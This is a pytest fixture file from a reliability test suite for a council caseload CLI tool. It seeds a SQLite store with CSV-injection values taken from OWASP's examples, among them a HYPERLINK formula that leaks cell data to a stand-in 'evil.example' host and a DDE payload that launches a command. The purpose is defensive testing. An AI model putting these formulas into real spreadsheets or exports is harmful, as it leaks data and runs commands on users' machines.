"""Fixtures of the reliability suite: the CLI fixtures of ``tests/cli`` and a store of hostile cases.

The hostile store holds case refs, teams and caseworkers written like spreadsheet formulas, the
way an attacker (or an unlucky copy-paste) would put them into a council's caseload.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from tests.cli.conftest import (  # noqa: F401 - fixtures re-used here
    CSV_ROWS,
    Run,
    ehcp,
    ehcp_sqlite,
    runner,
    sqlite_url,
    url,
    write_csv,
)

#: Values a spreadsheet would run as formulas (OWASP's CSV-injection examples, and a sum that
#: looks like a negative number).
FORMULAS: tuple[str, ...] = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
)


def _row(*cells: str) -> str:
    """One CSV line of the fixture's base columns (quoted as a spreadsheet would)."""
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="").writerow(cells)
    return buffer.getvalue()


HYPERLINK, CMD, SUM, MINUS = FORMULAS
#: Hostile cases: case ref, person ref, team, caseworker, then the request's dates and outcomes.
HOSTILE_ROWS: tuple[str, ...] = (
    _row(HYPERLINK, "P-90", HYPERLINK, SUM, "2026-01-05", "", "", "", "", "", ""),
    _row(CMD, "P-91", CMD, MINUS, "2025-12-01", "Y", "2026-01-09", "", "", "", ""),
    _row(MINUS, "P-92", SUM, CMD, "2025-09-29", "Y", "2025-11-07", "", "", "", ""),
    _row(SUM, "P-93", MINUS, HYPERLINK, "2026-05-04", "", "", "", "", "", ""),
)


@pytest.fixture
def hostile_store(ehcp_sqlite: Run, tmp_path: Path) -> Run:  # noqa: F811
    """A SQLite store holding the fixture caseload plus the hostile cases; yields the runner."""
    path = write_csv(tmp_path / "hostile.csv", [*CSV_ROWS, *HOSTILE_ROWS])
    result = ehcp_sqlite("import", str(path), "--actor", "importer")
    assert result.exit_code == 0, result.output
    return ehcp_sqlite


@pytest.fixture(autouse=True)
def _cwd_is_tmp_reliability(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """``ehcp import`` writes its error report to the current folder by default: keep it in the
    test's folder, never the repository."""
    monkeypatch.chdir(tmp_path)
